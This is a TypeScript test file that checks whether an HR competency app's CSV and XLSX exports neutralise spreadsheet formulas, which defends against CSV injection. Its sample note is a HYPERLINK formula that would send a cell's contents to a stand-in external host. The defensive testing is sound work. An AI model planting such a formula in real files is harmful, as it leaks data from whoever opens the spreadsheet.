import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { neutraliseCsvText, restoreCsvText } from '../src/modules/import/spreadsheet-writer.js';
import { startTestApp, type TestApp } from './support/app.js';
import { createTestDatabase, type TestDatabase } from './support/database.js';
import { buildSmallCity, type SmallCity } from './support/small-city.js';
import { dumpTables } from './support/table-dump.js';

/**
 * Exports that cannot attack the person opening them (OWASP "CSV injection"): a supervisor's note
 * written as a spreadsheet formula comes out of the CSV export neutralised, and the export imports
 * back to the same note through the real import path.
 */
const NOTE = '=HYPERLINK("http://contoh.invalid/?d="&A2,"Lihat bukti")';

describe('the neutralising rule', () => {
  it.each([
    ['=1+2', "'=1+2"],
    ['+62 711 123', "'+62 711 123"],
    ['-sum(A1)', "'-sum(A1)"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1', "'\t=1"],
    ['\r=1', "'\r=1"],
    ["'=1", "''=1"],
    ['Dinas Kesehatan', 'Dinas Kesehatan'],
    ["'biasa", "'biasa"],
    ['-0.25', '-0.25'],
    ['+0,67', '+0,67'],
    ['-3', '-3'],
    ['', ''],
  ])('%j is written as %j and read back as it was', (text, written) => {
    expect(neutraliseCsvText(text)).toBe(written);
    expect(restoreCsvText(written)).toBe(text);
  });
});

describe('over HTTP, as ADMIN', () => {
  let t: TestDatabase;
  let api: TestApp;
  let ids: SmallCity;

  beforeAll(async () => {
    t = await createTestDatabase();
    ids = await buildSmallCity(t.db);
    await t.db.orm.em.getConnection().execute(
      `insert into competency_assessment (employee_id, competency_id, level, method, assessed_on, note) values (?, ?, 4, 'SUPERVISOR', '2025-02-03', ?)`,
      [ids.e1, ids.C2, NOTE],
    );
    api = await startTestApp(t.db);
  });
  afterAll(async () => {
    await api.close();
    await t.drop();
  });

  it('writes the formula-like note of GET /api/exports/competency-assessments.csv with an apostrophe in front', async () => {
    const res = await api.fetch(`${api.url}/api/exports/competency-assessments.csv`);
    expect(res.status).toBe(200);
    const text = await res.text();
    expect(text).toContain(`"'${NOTE.replaceAll('"', '""')}"`);
    // No line has a cell that starts a formula: after a separator or a line start, never = + - @ unless a number.
    for (const line of text.replace(/^\uFEFF/, '').split('\r\n')) expect(line).not.toMatch(/(^|,)"?[=+@]/);
  });

  it('imports that export back to the same note: nothing created, nothing changed', async () => {
    const before = await dumpTables(t.db);
    const csv = Buffer.from(await (await api.fetch(`${api.url}/api/exports/competency-assessments.csv`)).arrayBuffer());
    const res = await api.fetch(`${api.url}/api/imports?kind=competency-assessments&dryRun=false&fileName=ekspor.csv`, { method: 'POST', body: csv });
    const job = (await res.json()) as Record<string, unknown>;
    expect(job.rowErrors).toEqual([]);
    expect(job).toMatchObject({ status: 'COMMITTED', rowsToCreate: 0, rowsToUpdate: 0, rowsWritten: 0 });
    expect(await dumpTables(t.db)).toEqual(before);
    const [row] = await t.db.orm.em.fork().getConnection().execute(`select count(*)::int as n from competency_assessment where note = ?`, [NOTE]);
    expect(row.n).toBe(1);
  });

  it('imports an edited line of that export with the note as it was typed, apostrophe removed', async () => {
    const csv = 'nip,kode_kompetensi,level,metode,tanggal_penilaian,catatan\r\n' + `198001012005011001,T.X.01,4,SUPERVISOR,2025-03-04,"'${NOTE.replaceAll('"', '""')}"\r\n`;
    const res = await api.fetch(`${api.url}/api/imports?kind=competency-assessments&dryRun=false&fileName=baru.csv`, { method: 'POST', body: csv });
    expect(await res.json()).toMatchObject({ status: 'COMMITTED', rowsToCreate: 1 });
    const [row] = await t.db.orm.em.fork().getConnection().execute(`select note from competency_assessment where employee_id = ? and assessed_on = '2025-03-04'`, [ids.e1]);
    expect(row.note).toBe(NOTE);
  });

  it('keeps the note a plain text cell in the .xlsx export, never a formula', async () => {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(await (await api.fetch(`${api.url}/api/exports/competency-assessments.xlsx`)).arrayBuffer());
    const values = workbook.worksheets[0].getSheetValues().flatMap((row) => (Array.isArray(row) ? row : []));
    expect(values).toContain(NOTE);
    expect(values.some((v) => typeof v === 'object' && v !== null && 'formula' in v)).toBe(false);
  });

  it('leaves the negative numbers of the heatmap CSV numbers', async () => {
    const text = await (await api.fetch(`${api.url}/api/exports/heatmap.csv?competencyCodes=T.X.01&minGroupSize=1&asOf=2025-06-02`)).text();
    const values = text.trim().split('\r\n').slice(1).map((line) => line.split(',')[8]);
    expect(values.some((v) => /^-\d/.test(v))).toBe(true);
    expect(values.every((v) => !v.startsWith("'"))).toBe(true);
  });
});
